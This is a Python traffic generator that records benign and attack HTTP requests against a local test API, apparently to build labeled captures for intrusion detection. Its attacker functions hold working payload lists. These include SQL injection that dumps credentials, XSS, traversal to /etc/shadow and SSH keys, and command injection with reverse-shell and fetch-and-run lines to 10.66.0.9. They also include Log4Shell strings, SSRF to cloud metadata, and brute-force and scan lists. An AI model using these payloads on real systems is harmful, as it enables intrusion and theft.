#!/usr/bin/env python3
"""Traffic for captures/security/vulnapi-*.pcap.

usage: client.py normal|attack PORT REQUEST_LOG

normal: three benign users (127.0.0.2 alice, .3 bob, .4 carol), each on its
own keep-alive connection (reconnecting now and then, like a browser),
logging in and using the API: own profile and orders, searches (including
near-misses: "select", "union station", "O'Brien", a docs URL), file
listing and normal file names, render with their name, link previews of
https URLs of the app's CDN, ping of an internal host name.

attack: the same benign users (another seed) plus one attacker per address,
each doing ONE kind of attack (see ATTACKERS below and
captures/security/vulnapi-attack.expected.tsv).

Scheduling: every actor is a generator that sends one request and yields
the think time before its next request; a small event loop runs them in
real time, so benign users send a few requests per second while
enumeration / scanning / the rate burst are fast. Seeded: a re-recording
sends the same requests (only timing-dependent interleaving may differ).

Request log (TSV): client address, method, URI as sent, status, label
(benign or the attack kind/subtype).
"""
import heapq
import http.client
import json
import os
import random
import socket
import sys
import time
from urllib.parse import quote, quote_plus

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "apis"))
from traffic import OneSendHTTPConnection  # noqa: E402

PORT = 8080
LOG = None
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/126.0.0.0 Safari/537.36")
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
          "Version/17.5 Safari/605.1.15")
PYREQ = "python-requests/2.31.0"


class Conn:
    """One keep-alive HTTP/1.1 connection from a chosen source address."""

    def __init__(self, source, label, ua, extra=None):
        self.source, self.label = source, label
        self.headers = {"User-Agent": ua, "Accept": "application/json, */*;q=0.8"}
        self.headers.update(extra or {})
        self.conn = None

    def close(self):
        if self.conn is not None:
            self.conn.close()
            self.conn = None

    def req(self, method, uri, body=None, headers=None, expect=None):
        h = dict(self.headers)
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            h["Content-Type"] = "application/json"
            h["Content-Length"] = str(len(data))
        h.update(headers or {})
        if self.conn is None:
            self.conn = OneSendHTTPConnection("127.0.0.1", PORT, timeout=10, source_address=(self.source, 0))
        self.conn.request(method, uri, body=data, headers=h)
        resp = self.conn.getresponse()
        raw = resp.read()
        if self.conn.sock is not None:
            self.conn.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_QUICKACK, 1)
        LOG.write("%s\t%s\t%s\t%d\t%s\n" % (self.source, method, uri, resp.status, self.label))
        LOG.flush()
        if resp.will_close:
            self.close()
        if expect is not None and resp.status not in (expect if isinstance(expect, tuple) else (expect,)):
            raise RuntimeError("%s %s %s -> %d: %r" % (self.source, method, uri, resp.status, raw[:200]))
        if raw and "json" in (resp.headers.get("Content-Type") or ""):
            return resp.status, json.loads(raw)
        return resp.status, raw

    def login(self, user, pw):
        st, body = self.req("POST", "/api/login", {"username": user, "password": pw}, expect=200)
        self.headers["Authorization"] = "Bearer " + body["token"]
        return body["user_id"]


# ---------------------------------------------------------------- benign

BENIGN = [("127.0.0.2", "alice", "wonderland-42", "Alice", FIREFOX),
          ("127.0.0.3", "bob", "builder#77", "Bob", CHROME),
          ("127.0.0.4", "carol", "c4rol-obrien", "Carol", SAFARI)]
SEARCHES = ["desk", "shipping policy", "report 2024", "holiday schedule", "release notes", "price list",
            "onboarding", "monitor arm", "returns", "security policy", "laptop", "renewal",
            # near-misses: SQL words and an apostrophe inside normal text, a URL
            "select committee", "how to select benefits", "union station", "Union Station office move",
            "O'Brien", "Carol O'Brien renewal", "https://docs.example.com/", "update schedule"]
FILENAMES = ["readme.txt", "report-2024.txt", "price-list.csv", "invoices/inv-1001.txt",
             "invoices/inv-1002.txt", "images/logo.txt", "missing-notes.txt"]
PREVIEWS = ["https://cdn.example.com/images/logo.png", "https://docs.example.com/guides/onboarding",
            "https://cdn.example.com/catalog/standing-desk.jpg", "https://www.example.com/blog/union-station-move"]
PING_HOSTS = ["db.internal.example", "printer-3.office.example", "10.0.0.5", "api.example.com"]
BENIGN_DONE = []


def benign(src, user, pw, first, ua, rnd, n):
    c = Conn(src, "benign", ua)
    me = c.login(user, pw)
    yield rnd.uniform(0.08, 0.25)
    _, prof = c.req("GET", "/api/users/%d" % me, expect=200)
    orders = prof["order_ids"]
    yield rnd.uniform(0.08, 0.25)
    for i in range(n):
        r = rnd.random()
        if r < 0.25:
            c.req("GET", "/api/orders/%d" % rnd.choice(orders), expect=200)
        elif r < 0.45:
            c.req("GET", "/api/search?q=" + quote_plus(rnd.choice(SEARCHES)), expect=(200, 500))
        elif r < 0.55:
            c.req("GET", "/api/files", expect=200)
        elif r < 0.68:
            c.req("GET", "/api/files?path=" + quote(rnd.choice(FILENAMES), safe=""), expect=(200, 404))
        elif r < 0.74:
            c.req("GET", "/api/render?name=" + quote(rnd.choice([first, first + " " + user.title(), "team"])), expect=200)
        elif r < 0.81:
            c.req("GET", "/api/fetch?url=" + quote(rnd.choice(PREVIEWS), safe=""), expect=200)
        elif r < 0.86:
            c.req("POST", "/api/ping", {"host": rnd.choice(PING_HOSTS)}, expect=200)
        elif r < 0.94:
            c.req("GET", "/api/users/%d" % me, expect=200)
        else:
            c.req("GET", "/health", expect=200)
        if rnd.random() < 0.04:
            c.close()  # a new connection now and then (browser tab reopened)
        yield rnd.uniform(0.08, 0.25)
    c.close()
    BENIGN_DONE.append(user)


# ---------------------------------------------------------------- attackers

def sqli():
    c = Conn("127.0.0.10", "attack:injection_attempt/sql_injection", PYREQ)
    plain = ["' OR 1=1--", "' OR '1'='1", "desk' OR 1=1-- -", "') OR ('a'='a", "admin'--",
             "' UNION SELECT username, password FROM users--", "' UNION SELECT NULL,NULL--",
             "x' UNION ALL SELECT id, sql FROM sqlite_master--",
             "' UNION ALL SELECT 1,group_concat(username||':'||password) FROM users--",
             "' ORDER BY 3--", "' ORDER BY 2--", "1; DROP TABLE users--",
             "' AND SLEEP(5)--", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)--", "'; WAITFOR DELAY '0:0:5'--",
             "' AND 1=(SELECT 1 FROM pg_sleep(5))--", "1' AND BENCHMARK(5000000,MD5(1))--",
             "' AND 1=CAST((SELECT password FROM users LIMIT 1) AS INT)--", "%' AND 1=1 AND '%'='",
             "' uNiOn SeLeCt username, password fRoM users--",
             "'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users--"]
    for p in plain:
        c.req("GET", "/api/search?q=" + quote(p, safe=""))
        yield 0.12
    raw = ["'+OR+1=1--",                                        # form-style + for spaces
           "%27%20OR%201%3D1--",                                # plain percent-encoding
           "%2527%2520OR%25201%253D1--",                        # double-encoded
           "%2527%2520UNION%2520SELECT%2520username%252Cpassword%2520FROM%2520users--",
           "%u0027%20OR%201%3D1--",                             # IIS %u encoding
           "%u0027%u0020UNION%u0020SELECT%u0020NULL%2CNULL--",
           "%EF%BC%87%20OR%201%3D1--",                          # fullwidth apostrophe U+FF07
           "%EF%BC%87%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
           "%CA%BC%20OR%201%3D1--",                             # modifier letter apostrophe U+02BC
           "desk%27%20AnD%20SlEeP%285%29--"]
    for p in raw:
        c.req("GET", "/api/search?q=" + p)
        yield 0.12


def xss():
    c = Conn("127.0.0.11", "attack:injection_attempt/xss", FIREFOX)
    payloads = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(document.domain)>",
                "javascript:alert(1)", "\"><script>alert(document.cookie)</script>", "<ScRiPt>alert(1)</sCrIpT>",
                "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>", "<details open ontoggle=alert(1)>"]
    for i, p in enumerate(payloads):
        c.req("GET", "/api/search?q=" + quote(p, safe=""))
        yield 0.15
        c.req("GET", "/api/render?name=" + quote(p, safe=""))
        yield 0.15
    raw = ["%253Cscript%253Ealert(1)%253C%252Fscript%253E",     # double-encoded
           "%u003Cscript%u003Ealert(1)%u003C/script%u003E",     # %u encoding
           "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",  # HTML entities
           "%3Cimg%20src%3Dx%20oNeRrOr%3Dalert%601%60%3E",
           "jav%09ascript%3Aalert(1)",
           "%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"]  # fullwidth < >
    for p in raw:
        c.req("GET", "/api/render?name=" + p)
        yield 0.15
    for p in raw[:3]:
        c.req("GET", "/api/search?q=" + p)
        yield 0.15


def traversal():
    c = Conn("127.0.0.12", "attack:injection_attempt/path_traversal", PYREQ)
    raw = ["../../etc/passwd", "../../../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
           "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
           "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "....//....//....//etc/passwd",
           "..%5c..%5c..%5cwindows%5cwin.ini", "../../../etc/passwd%00.txt", "readme.txt%00../../etc/passwd",
           "/etc/passwd", "../config.ini", "../../../proc/self/environ", "..%c0%af..%c0%af..%c0%afetc/passwd",
           "invoices/../../../etc/hosts", "..;/..;/..;/etc/passwd", "%2e%2e%5c%2e%2e%5cboot.ini",
           "..%252f..%252f..%252fetc%252fshadow", "file:///etc/passwd", "../../../../root/.ssh/id_rsa"]
    for p in raw:
        c.req("GET", "/api/files?path=" + p)
        yield 0.15


def cmdi():
    c = Conn("127.0.0.13", "attack:injection_attempt/command_injection", "curl/7.88.1")
    hosts = ["127.0.0.1; cat /etc/passwd", "127.0.0.1 && id", "$(id)", "`whoami`", "127.0.0.1 | id",
             "127.0.0.1 | nc 10.66.0.9 4444 -e /bin/sh", "127.0.0.1\nid", "; ls -la /",
             "127.0.0.1 || curl http://10.66.0.9/x.sh | sh", "127.0.0.1;${IFS}cat${IFS}/etc/passwd",
             "127.0.0.1; sleep 5", "& ping -c 10 127.0.0.1 &", "127.0.0.1 & type C:\\windows\\win.ini",
             "127.0.0.1;$(wget -qO- http://10.66.0.9/a|sh)", "127.0.0.1%0acat%20/etc/passwd"]
    for h in hosts:
        c.req("POST", "/api/ping", {"host": h})
        yield 0.15


def ssrf():
    c = Conn("127.0.0.14", "attack:injection_attempt/ssrf", PYREQ)
    urls = ["http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://169.254.169.254/computeMetadata/v1/", "http://metadata.google.internal/computeMetadata/v1/",
            "http://100.100.100.200/latest/meta-data/", "http://localhost:6379/", "http://127.0.0.1:22/",
            "http://[::1]:8080/admin", "http://0x7f000001/", "http://2130706433/", "http://127.1/server-status",
            "file:///etc/passwd", "gopher://127.0.0.1:6379/_FLUSHALL%0D%0A", "dict://127.0.0.1:11211/stats",
            "http://10.0.0.5:5432/", "http://192.168.1.1/admin", "http://169.254.169.254.nip.io/latest/meta-data/",
            "ldap://127.0.0.1:389/"]
    for u in urls:
        c.req("GET", "/api/fetch?url=" + quote(u, safe=""))
        yield 0.15


def template():
    c = Conn("127.0.0.15", "attack:injection_attempt/template_injection", PYREQ)
    names = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "{{config.items()}}",
             "{{self.__init__.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec(\"id\")}",
             "{{7*'7'}}", "${jndi:ldap://10.66.0.9:1389/a}", "${${lower:j}ndi:${lower:l}dap://10.66.0.9/a}"]
    for n in names:
        c.req("GET", "/api/render?name=" + quote(n, safe=""))
        yield 0.15
    # JNDI (Log4Shell) in headers on ordinary-looking requests
    jndi = ["${jndi:ldap://10.66.0.9:1389/Exploit}", "${jndi:dns://10.66.0.9/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://10.66.0.9/a}"]
    for j in jndi:
        c.req("GET", "/api/search?q=desk", headers={"User-Agent": j})
        yield 0.15
        c.req("GET", "/health", headers={"User-Agent": j, "X-Api-Version": j})
        yield 0.15
    c.req("GET", "/api/search?q=" + quote("${jndi:ldap://10.66.0.9/q}", safe=""))
    yield 0.15


def enumeration():
    c = Conn("127.0.0.16", "attack:enumeration", PYREQ)
    c.login("mallory", "m4llory!")
    yield 0.01
    for i in range(1, 201):
        c.req("GET", "/api/users/%d" % i)
        yield 0.004


PASSWORDS = ["123456", "password", "123456789", "12345678", "12345", "qwerty", "abc123", "football", "1234567",
             "monkey", "111111", "letmein", "1234", "1234567890", "dragon", "baseball", "iloveyou", "trustno1",
             "princess", "adobe123", "welcome", "login", "admin", "qwerty123", "solo", "1q2w3e4r", "master",
             "666666", "photoshop", "1qaz2wsx", "qwertyuiop", "ashley", "mustang", "121212", "starwars",
             "654321", "bailey", "access", "flower", "555555", "passw0rd", "shadow", "lovely", "michael",
             "superman", "hello", "charlie", "888888", "696969", "hottie", "freedom", "aa123456", "qazwsx",
             "ninja", "azerty", "loveme", "whatever", "donald", "batman", "zaq1zaq1"]


def brute():
    c = Conn("127.0.0.17", "attack:brute_force", PYREQ)
    assert len(PASSWORDS) == 60
    for pw in PASSWORDS:
        c.req("POST", "/api/login", {"username": "dave", "password": pw}, expect=401)
        yield 0.02
    c.req("POST", "/api/login", {"username": "dave", "password": "sunshine1"}, expect=200)
    yield 0.02


def bola():
    c = Conn("127.0.0.18", "attack:bola", CHROME)
    me = c.login("eve", "eve-secret-9")
    yield 0.1
    _, prof = c.req("GET", "/api/users/%d" % me, expect=200)
    own = set(prof["order_ids"])
    yield 0.1
    n = 0
    for oid in range(1001, 1061):
        if oid in own:
            continue
        c.req("GET", "/api/orders/%d" % oid, expect=200)
        n += 1
        yield 0.08
        if n == 30:
            break


SCAN_PATHS = """/ /admin /admin/ /admin/login /admin.php /administrator/ /login /login.php /wp-login.php /wp-admin/
/wp-content/ /wp-includes/ /xmlrpc.php /phpmyadmin/ /phpMyAdmin/ /pma/ /mysql/ /myadmin/ /dbadmin/ /.git/HEAD
/.git/config /.gitignore /.svn/entries /.hg/ /.env /.env.bak /.env.local /.DS_Store /.htaccess /.htpasswd
/config.php /config.json /config.yml /configuration.php /settings.py /web.config /backup/ /backup.zip /backup.sql
/db.sql /dump.sql /database.sql /site.tar.gz /www.zip /old/ /test/ /tmp/ /temp/ /dev/ /debug /debug/ /console
/actuator /actuator/health /actuator/env /actuator/heapdump /server-status /server-info /status /metrics
/swagger-ui.html /swagger.json /openapi.json /v2/api-docs /v3/api-docs /api-docs /graphql /graphiql /api/v1/
/api/v2/ /api/admin /api/debug /api/config /api/internal /api/swagger.json /cgi-bin/ /cgi-bin/test-cgi
/cgi-bin/printenv /shell.php /cmd.php /upload.php /uploads/ /files/ /images/ /includes/ /install/ /install.php
/setup.php /readme.html /README.md /CHANGELOG.md /LICENSE /robots.txt /sitemap.xml /crossdomain.xml
/clientaccesspolicy.xml /favicon.ico /info.php /phpinfo.php /test.php /index.php /index.html /default.aspx
/elmah.axd /trace.axd /jmx-console/ /web-console/ /manager/html /host-manager/html /solr/ /jenkins/ /script
/nagios/ /zabbix/ /kibana/ /grafana/ /owa/ /exchange/ /remote/login /vpn/ /citrix/ /.well-known/security.txt
/.aws/credentials /.ssh/id_rsa /id_rsa /.bash_history /composer.json /package.json /yarn.lock /Gemfile
/requirements.txt /Dockerfile /docker-compose.yml /.dockerignore /.travis.yml /.gitlab-ci.yml /Jenkinsfile
/server.key /private.key /keys/ /logs/ /log/ /error.log /access.log /api/users /api/orders /api/files /health""".split()


def scanner():
    c = Conn("127.0.0.19", "attack:scanner", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)")
    for i, p in enumerate(SCAN_PATHS):
        method = "HEAD" if i % 10 == 3 else "GET"
        c.req(method, p, headers={"User-Agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)" % (i + 1)})
        yield 0.005


def rate_burst():
    while len(BENIGN_DONE) < 2:  # wait for the benign baseline to (mostly) finish
        yield ("idle", 0.2)
    c = Conn("127.0.0.20", "attack:rate_anomaly", "Go-http-client/1.1")
    for i in range(400):
        c.req("GET", "/health")
        yield 0.0


# ---------------------------------------------------------------- event loop

def run(actors):
    """actors: list of (start_offset_seconds, generator). Each generator
    sends one request per step and yields its delay before the next step
    (or ("idle", delay) for a step without a request)."""
    t0 = time.monotonic()
    heap = [(start, i, g) for i, (start, g) in enumerate(actors)]
    heapq.heapify(heap)
    while heap:
        when, i, g = heapq.heappop(heap)
        now = time.monotonic() - t0
        if when > now:
            time.sleep(when - now)
        try:
            d = next(g)
        except StopIteration:
            continue
        if isinstance(d, tuple):
            d = d[1]
        heapq.heappush(heap, (max(when, time.monotonic() - t0) + d, i, g))


def main():
    global LOG, PORT
    mode, PORT, LOG = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "w")
    if mode == "normal":
        rnd = random.Random(2024)
        actors = [(0.05 * k, benign(*b, rnd=random.Random(rnd.random()), n=64)) for k, b in enumerate(BENIGN)]
    elif mode == "attack":
        rnd = random.Random(9001)
        actors = [(0.05 * k, benign(*b, rnd=random.Random(rnd.random()), n=64)) for k, b in enumerate(BENIGN)]
        actors += [(1.0, sqli()), (2.0, xss()), (3.0, traversal()), (4.0, cmdi()), (5.0, ssrf()),
                   (6.0, template()), (7.0, enumeration()), (8.0, brute()), (9.0, bola()), (10.0, scanner()),
                   (0.5, rate_burst())]
    else:
        sys.exit("usage: client.py normal|attack PORT REQUEST_LOG")
    run(actors)
    LOG.close()


if __name__ == "__main__":
    main()
